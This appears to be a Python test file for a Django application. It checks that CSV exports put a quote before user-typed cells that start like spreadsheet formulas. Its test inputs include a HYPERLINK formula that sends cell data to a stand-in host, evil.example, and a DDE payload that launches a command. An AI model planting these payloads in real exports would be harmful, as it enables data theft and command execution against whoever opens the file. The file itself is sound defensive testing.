"""Every CSV the product writes is safe to open in a spreadsheet: a cell a person typed that
starts like a formula (`=`, `+`, `-`, `@`, a tab or a carriage return) starts with a single
quote instead (OWASP's CSV injection guidance), and numbers the product computed stay numbers.

The text goes in the way an applicant, a programme manager or an education lead would put it
there: the sign-up page, the organisation directory's service, the Expression of Interest
services and the selection decision."""

import csv
import io

import pytest
from django.urls import reverse

from i2i.csvfile import neutralise
from participants import recruitment, services
from participants.models import CohortPlaces, Organisation, User
from tests.factories import EducationLeadFactory, UserFactory
from tests.participants.conftest import COMPLETE, TODAY
from tests.participants.conftest import setup as setup  # noqa: F401 -- the fixture

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# What a browser's form can carry: leading tabs and carriage returns are stripped from a
# one-line box, so those reach the services directly (as a task or the admin could).
TYPED = [HYPERLINK, "+44 1632 960000", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
STARTERS = [*TYPED, "\t=1+1", "\r=1+1"]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))


def _sign_up(client, name: str) -> User:
    response = client.post(
        reverse("account_signup"),
        {
            "full_name": name,
            "email": "applicant@larkhaven.example",
            "password1": "a long harbour lantern",
            "password2": "a long harbour lantern",
        },
    )
    assert response.status_code == 302, response.content.decode()
    client.logout()
    return User.objects.get(email="applicant@larkhaven.example")


def _selected(client, setup, *, name, organisation_name, job_title, reason):  # noqa: F811
    """An applicant who signed up with `name`, employed by an organisation the programme
    manager named `organisation_name`, applied as `job_title` and was selected for `reason`."""
    cohort, _, _, manager, _, sponsor = setup
    manager_of_programme = UserFactory(is_programme_manager=True)
    employer = services.organisation_save(
        organisation=Organisation(
            name=organisation_name, sector="acute", is_partner=True, sponsor=sponsor
        ),
        by=manager_of_programme,
    )
    CohortPlaces.objects.create(cohort=cohort, organisation=employer, places=1)
    lead = EducationLeadFactory(organisation=employer).user
    applicant = _sign_up(client, name)
    eoi = recruitment.eoi_start(cohort=cohort, organisation=employer, by=applicant)
    fields = {**COMPLETE, "job_title": job_title, "line_manager_email": manager.email}
    eoi = recruitment.eoi_save(
        eoi=eoi,
        by=applicant,
        qualified_on=TODAY.replace(year=TODAY.year - 3, day=1),
        last_appraisal_on=TODAY.replace(day=1),
        **fields,
    )
    eoi = recruitment.eoi_submit(eoi=eoi, by=applicant)
    recruitment.eoi_support(eoi=eoi, by=manager, supported=True)
    recruitment.eoi_decide(eoi=eoi, by=lead, decision="selected", reason=reason)
    return applicant, lead, manager_of_programme


@pytest.mark.parametrize("typed", TYPED)
def test_the_expressions_of_interest_csv_neutralises_what_people_typed(client, setup, typed):
    applicant, lead, _ = _selected(
        client,
        setup,
        name=typed,
        organisation_name=typed + " Trust",
        job_title=typed,
        reason=typed,
    )
    client.force_login(lead)
    header, row = _rows(client.get(reverse("eoi_csv")))
    cells = dict(zip(header, row, strict=True))
    for column in ("Applicant", "Job title", "Reason"):
        assert cells[column] == "'" + typed, column
    assert cells["Organisation"] == "'" + typed + " Trust"
    assert cells["Email"] == applicant.email


@pytest.mark.parametrize("starter", ["\t", "\r"])
def test_the_expressions_of_interest_csv_neutralises_a_leading_tab_or_return(
    client, setup, starter
):
    _, lead, _ = _selected(
        client,
        setup,
        name="Ari Applicant",
        organisation_name="Larkhaven Hospitals",
        job_title=starter + HYPERLINK,
        reason="Strong application",
    )
    client.force_login(lead)
    header, row = _rows(client.get(reverse("eoi_csv")))
    assert dict(zip(header, row, strict=True))["Job title"] == "'" + starter + HYPERLINK


@pytest.mark.parametrize("typed", TYPED)
def test_the_dashboard_csv_neutralises_what_people_typed(client, setup, typed):
    cohort = setup[0]
    applicant, _, programme_manager = _selected(
        client,
        setup,
        name=typed,
        organisation_name=typed + " Trust",
        job_title="Staff nurse",
        reason="Strong application",
    )
    client.force_login(programme_manager)
    header, row = _rows(client.get(reverse("cohort_dashboard_csv", args=[cohort.pk])))
    cells = dict(zip(header, row, strict=True))
    assert cells["Participant"] == "'" + typed
    assert cells["Organisation"] == "'" + typed + " Trust"
    assert cells["Email"] == applicant.email
    # Numbers the product computed are numbers, not text.
    assert cells["Placements counted"] == "0"


@pytest.mark.parametrize("starter", ["\t", "\r"])
def test_the_dashboard_csv_neutralises_a_name_stored_before_names_were_checked(
    client, setup, starter
):
    """Names now refuse tabs and line breaks wherever they are typed (the sign-up page, the
    admin's `person_save`), so such a name can only be one stored before that."""
    cohort = setup[0]
    applicant, _, programme_manager = _selected(
        client,
        setup,
        name="Ari Applicant",
        organisation_name="Larkhaven Hospitals",
        job_title="Staff nurse",
        reason="Strong application",
    )
    User.objects.filter(pk=applicant.pk).update(full_name=starter + HYPERLINK)
    client.force_login(programme_manager)
    header, row = _rows(client.get(reverse("cohort_dashboard_csv", args=[cohort.pk])))
    assert dict(zip(header, row, strict=True))["Participant"] == "'" + starter + HYPERLINK


@pytest.mark.parametrize("value", [*STARTERS, "Ari Applicant", "", "3-2", "a=b", "O'Neil"])
def test_only_text_that_starts_like_a_formula_changes(value):
    expected = "'" + value if value[:1] in {"=", "+", "-", "@", "\t", "\r"} else value
    assert neutralise(value) == expected


@pytest.mark.parametrize("number", [0, -3, 12, 4.5, -0.25])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number
